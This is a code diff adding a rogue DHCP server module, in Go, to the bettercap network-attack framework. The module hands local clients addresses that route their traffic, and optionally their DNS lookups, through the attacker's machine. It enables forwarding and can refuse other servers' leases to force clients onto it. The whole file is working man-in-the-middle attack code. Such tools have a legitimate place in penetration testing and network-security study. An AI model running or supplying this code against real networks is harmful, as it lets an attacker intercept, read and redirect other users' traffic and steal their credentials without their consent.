@@ -0,0 +1,403 @@
+package modules
+
+import (
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/malfunkt/iprange"
+)
+
+type DHCPServer struct {
+	session.SessionModule
+	handle        *pcap.Handle
+	leases        *dhcpLeases
+	gateway       net.IP
+	dns           []net.IP
+	domain        string
+	leaseTime     time.Duration
+	authoritative bool
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewDHCPServer(s *session.Session) *DHCPServer {
+	p := &DHCPServer{
+		SessionModule: session.NewSessionModule("dhcp.server", s),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	p.AddParam(session.NewStringParameter("dhcp.server.pool", "", "",
+		"Range of addresses to lease (for instance 192.168.1.100-200), every free address of the subnet if empty."))
+
+	p.AddParam(session.NewStringParameter("dhcp.server.gateway", "", "",
+		"Router address given to the clients, this computer if empty so that their traffic goes through it."))
+
+	p.AddParam(session.NewStringParameter("dhcp.server.dns", "", "",
+		"Comma separated list of DNS servers given to the clients, if empty this computer while dns.spoof is running, the gateway otherwise."))
+
+	p.AddParam(session.NewStringParameter("dhcp.server.domain", "", "",
+		"Domain name given to the clients."))
+
+	p.AddParam(session.NewDurationParameter("dhcp.server.lease", "1h",
+		"Lease time of the addresses."))
+
+	p.AddParam(session.NewBoolParameter("dhcp.server.authoritative",
+		"false",
+		"If true, the requests for addresses this server did not lease are refused so that the clients start over with it, otherwise they are ignored."))
+
+	p.AddHandler(session.NewDangerousModuleHandler("dhcp.server on", "",
+		"Start the DHCP server.",
+		func(args []string) error {
+			return p.Start()
+		}))
+
+	p.AddHandler(session.NewModuleHandler("dhcp.server off", "",
+		"Stop the DHCP server.",
+		func(args []string) error {
+			return p.Stop()
+		}))
+
+	p.AddHandler(session.NewModuleHandler("dhcp.server.leases", "",
+		"Show the addresses leased by the DHCP server.",
+		func(args []string) error {
+			if p.leases == nil {
+				return fmt.Errorf("The DHCP server has not been started yet.")
+			}
+			return p.showLeases()
+		}))
+
+	return p
+}
+
+func (p DHCPServer) Name() string {
+	return "dhcp.server"
+}
+
+func (p DHCPServer) Description() string {
+	return "A rogue DHCP server leasing addresses to the clients of the network with this computer as their gateway and, while dns.spoof is running, their resolver."
+}
+
+func (p DHCPServer) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (p DHCPServer) Dependencies() []string {
+	return []string{"mac.changer", "net.recon"}
+}
+
+// parseDHCPPool returns the addresses of the pool that belong to the
+// subnet, every address of it but the network and broadcast ones if the
+// pool is empty.
+func parseDHCPPool(pool string, subnet *net.IPNet) ([]net.IP, error) {
+	if pool == "" {
+		pool = subnet.String()
+	}
+
+	list, err := iprange.ParseList(pool)
+	if err != nil {
+		return nil, err
+	}
+
+	addresses := make([]net.IP, 0)
+	for _, ip := range list.Expand() {
+		if ip = ip.To4(); ip == nil || !subnet.Contains(ip) {
+			continue
+		} else if ip.Equal(subnet.IP) || ip.Equal(dhcpBroadcast(subnet)) {
+			continue
+		}
+		addresses = append(addresses, ip)
+	}
+
+	if len(addresses) == 0 {
+		return nil, fmt.Errorf("No address of %s belongs to %s.", pool, subnet)
+	}
+	return addresses, nil
+}
+
+func dhcpBroadcast(subnet *net.IPNet) net.IP {
+	ip := make(net.IP, net.IPv4len)
+	for i, b := range subnet.IP.To4() {
+		ip[i] = b | ^subnet.Mask[len(subnet.Mask)-net.IPv4len+i]
+	}
+	return ip
+}
+
+func parseDHCPAddresses(addresses string) ([]net.IP, error) {
+	ips := make([]net.IP, 0)
+	for _, address := range core.CommaSplit(addresses) {
+		ip := net.ParseIP(address)
+		if ip == nil || ip.To4() == nil {
+			return nil, fmt.Errorf("'%s' is not a valid IPv4 address.", address)
+		}
+		ips = append(ips, ip.To4())
+	}
+	return ips, nil
+}
+
+func (p *DHCPServer) Configure() error {
+	var err error
+	var pool string
+	var gateway string
+	var dns string
+	var addresses []net.IP
+
+	if p.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, pool = p.StringParam("dhcp.server.pool"); err != nil {
+		return err
+	} else if err, gateway = p.StringParam("dhcp.server.gateway"); err != nil {
+		return err
+	} else if err, dns = p.StringParam("dhcp.server.dns"); err != nil {
+		return err
+	} else if err, p.domain = p.StringParam("dhcp.server.domain"); err != nil {
+		return err
+	} else if err, p.leaseTime = p.DurationParam("dhcp.server.lease"); err != nil {
+		return err
+	} else if err, p.authoritative = p.BoolParam("dhcp.server.authoritative"); err != nil {
+		return err
+	} else if addresses, err = parseDHCPPool(pool, p.Session.Interface.Net); err != nil {
+		return err
+	} else if p.dns, err = parseDHCPAddresses(dns); err != nil {
+		return err
+	}
+
+	if gateway == "" {
+		p.gateway = p.Session.Interface.IP.To4()
+	} else if p.gateway = net.ParseIP(gateway).To4(); p.gateway == nil {
+		return fmt.Errorf("'%s' is not a valid IPv4 address.", gateway)
+	}
+
+	p.leases = newDHCPLeases(addresses, p.inUse)
+
+	if p.handle, err = pcap.OpenLive(p.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = p.handle.SetBPFFilter(fmt.Sprintf("udp and dst port %d", packets.DHCPv4ServerPort)); err != nil {
+		p.handle.Close()
+		return err
+	}
+
+	if p.gateway.Equal(p.Session.Interface.IP) && !p.Session.Firewall.IsForwardingEnabled() {
+		log.Info("Enabling forwarding.")
+		p.Session.Firewall.EnableForwarding(true)
+	}
+
+	return nil
+}
+
+// inUse is true for our addresses and the ones of the other known hosts.
+func (p *DHCPServer) inUse(ip net.IP, mac string) bool {
+	if ip.Equal(p.Session.Interface.IP) || ip.Equal(p.Session.Gateway.IP) || ip.Equal(p.gateway) {
+		return true
+	} else if e := p.Session.Lan.GetByIp(ip.String()); e != nil {
+		return e.HwAddress != mac
+	}
+	return false
+}
+
+// nameservers returns the DNS servers of the clients, dns.spoof answers
+// them while it is running.
+func (p *DHCPServer) nameservers() []net.IP {
+	if len(p.dns) > 0 {
+		return p.dns
+	} else if p.Session.IsOn("dns.spoof") {
+		return []net.IP{p.Session.Interface.IP.To4()}
+	}
+	return []net.IP{p.gateway}
+}
+
+func (p *DHCPServer) newReply(req *layers.DHCPv4, msgType layers.DHCPMsgType, ip net.IP) *layers.DHCPv4 {
+	reply := &layers.DHCPv4{
+		Operation:    layers.DHCPOpReply,
+		HardwareType: req.HardwareType,
+		HardwareLen:  req.HardwareLen,
+		Xid:          req.Xid,
+		Flags:        req.Flags,
+		ClientIP:     net.IPv4zero.To4(),
+		YourClientIP: net.IPv4zero.To4(),
+		NextServerIP: net.IPv4zero.To4(),
+		RelayAgentIP: req.RelayAgentIP,
+		ClientHWAddr: req.ClientHWAddr,
+		Options: layers.DHCPOptions{
+			layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(msgType)}),
+			packets.DHCPv4IPsOption(layers.DHCPOptServerID, p.Session.Interface.IP),
+		},
+	}
+
+	if msgType == layers.DHCPMsgTypeNak {
+		return reply
+	}
+
+	if ip != nil {
+		reply.YourClientIP = ip.To4()
+	}
+	if msgType == layers.DHCPMsgTypeAck && req.ClientIP != nil && !req.ClientIP.IsUnspecified() {
+		reply.ClientIP = req.ClientIP.To4()
+	}
+
+	mask := p.Session.Interface.Net.Mask
+	reply.Options = append(reply.Options,
+		packets.DHCPv4DurationOption(layers.DHCPOptLeaseTime, p.leaseTime),
+		packets.DHCPv4DurationOption(layers.DHCPOptT1, p.leaseTime/2),
+		packets.DHCPv4DurationOption(layers.DHCPOptT2, p.leaseTime*7/8),
+		layers.NewDHCPOption(layers.DHCPOptSubnetMask, mask[len(mask)-net.IPv4len:]),
+		packets.DHCPv4IPsOption(layers.DHCPOptRouter, p.gateway),
+		packets.DHCPv4IPsOption(layers.DHCPOptDNS, p.nameservers()...))
+
+	if p.domain != "" {
+		reply.Options = append(reply.Options, layers.NewDHCPOption(layers.DHCPOptDomainName, []byte(p.domain)))
+	}
+
+	return reply
+}
+
+// reply returns the reply to the message of a client, nil if there is
+// none, and the address leased to the client if any.
+func (p *DHCPServer) reply(req *layers.DHCPv4, now time.Time) (*layers.DHCPv4, *dhcpLease) {
+	if req.Operation != layers.DHCPOpRequest || len(req.ClientHWAddr) < 6 {
+		return nil, nil
+	}
+
+	mac := req.ClientHWAddr.String()
+	serverID := packets.DHCPv4IPOption(req, layers.DHCPOptServerID)
+	ours := serverID == nil || serverID.Equal(p.Session.Interface.IP)
+	requested := packets.DHCPv4IPOption(req, layers.DHCPOptRequestIP)
+	if requested == nil && req.ClientIP != nil && !req.ClientIP.IsUnspecified() {
+		// renewing or rebinding
+		requested = req.ClientIP
+	}
+
+	switch packets.DHCPv4MsgType(req) {
+	case layers.DHCPMsgTypeDiscover:
+		if ip := p.leases.Offer(mac, requested, now); ip != nil {
+			return p.newReply(req, layers.DHCPMsgTypeOffer, ip), nil
+		}
+		log.Warning("The DHCP pool is exhausted, could not offer an address to %s.", mac)
+
+	case layers.DHCPMsgTypeRequest:
+		if !ours {
+			// the client went with another server
+			p.leases.Forget(mac)
+			return nil, nil
+		} else if requested == nil {
+			return nil, nil
+		} else if lease, ok := p.leases.Ack(mac, requested, dhcpHostname(req), p.leaseTime, now); ok {
+			return p.newReply(req, layers.DHCPMsgTypeAck, lease.IP), lease
+		} else if serverID != nil || p.authoritative {
+			return p.newReply(req, layers.DHCPMsgTypeNak, nil), nil
+		}
+
+	case layers.DHCPMsgTypeRelease:
+		if ours {
+			p.leases.Forget(mac)
+		}
+
+	case layers.DHCPMsgTypeDecline:
+		if ours && requested != nil {
+			log.Warning("%s declined %s, the address is in use.", mac, requested)
+			p.leases.Decline(mac, requested)
+		}
+	}
+
+	return nil, nil
+}
+
+func dhcpHostname(req *layers.DHCPv4) string {
+	if data, found := packets.DHCPv4Option(req, layers.DHCPOptHostname); found {
+		return strings.Trim(string(data), "\x00")
+	}
+	return ""
+}
+
+// dhcpReplyTo returns where the reply goes, a nil address for a broadcast.
+func dhcpReplyTo(req, reply *layers.DHCPv4) (net.IP, net.HardwareAddr) {
+	if req.ClientIP != nil && !req.ClientIP.IsUnspecified() {
+		return req.ClientIP, req.ClientHWAddr
+	} else if req.Flags&packets.DHCPv4FlagBroadcast != 0 || packets.DHCPv4MsgType(reply) == layers.DHCPMsgTypeNak {
+		return nil, nil
+	}
+	// the client has no address yet, so it can't be resolved
+	return reply.YourClientIP, req.ClientHWAddr
+}
+
+func (p *DHCPServer) onPacket(pkt gopacket.Packet) {
+	req, ok := pkt.Layer(layers.LayerTypeDHCPv4).(*layers.DHCPv4)
+	if !ok {
+		return
+	} else if req.RelayAgentIP != nil && !req.RelayAgentIP.IsUnspecified() {
+		// not from this link
+		return
+	}
+
+	reply, lease := p.reply(req, time.Now())
+	if reply == nil {
+		return
+	}
+
+	iface := p.Session.Interface
+	to, toHW := dhcpReplyTo(req, reply)
+	if err, raw := packets.NewDHCPv4Reply(iface.IP, iface.HW, to, toHW, reply); err != nil {
+		log.Error("Error creating the DHCP %s: %s", packets.DHCPv4MsgType(reply), err)
+		return
+	} else if err := p.Session.Inject(raw); err != nil {
+		log.Error("Error sending the DHCP %s: %s", packets.DHCPv4MsgType(reply), err)
+		return
+	}
+
+	if lease != nil {
+		p.Session.Events.Add("dhcp.lease", DHCPLeaseEvent{
+			MAC:      lease.MAC,
+			IP:       lease.IP.String(),
+			Hostname: lease.Hostname,
+			Expires:  lease.Expires,
+		})
+	} else {
+		log.Debug("Sent DHCP %s of %s to %s.", packets.DHCPv4MsgType(reply), reply.YourClientIP, req.ClientHWAddr)
+	}
+}
+
+func (p *DHCPServer) Start() error {
+	if err := p.Session.RequirePrivileges(p.Name(), session.CapNetRaw, session.CapNetAdmin); err != nil {
+		return err
+	} else if err := p.Session.CheckSafe(p.Name(), p.Session.Interface.Name()); err != nil {
+		return err
+	} else if err := p.Configure(); err != nil {
+		return err
+	}
+
+	return p.SetRunning(true, func() {
+		p.waitGroup.Add(1)
+		defer p.waitGroup.Done()
+
+		log.Info("DHCP server started with %d addresses, gateway %s and DNS %v.", len(p.leases.pool), p.gateway, p.nameservers())
+
+		src := gopacket.NewPacketSource(p.handle, p.handle.LinkType())
+		p.pktSourceChan = src.Packets()
+		for packet := range p.pktSourceChan {
+			if !p.Running() {
+				break
+			}
+
+			p.onPacket(packet)
+		}
+	})
+}
+
+func (p *DHCPServer) Stop() error {
+	return p.SetRunning(false, func() {
+		p.pktSourceChan <- nil
+		p.handle.Close()
+		p.waitGroup.Wait()
+	})
+}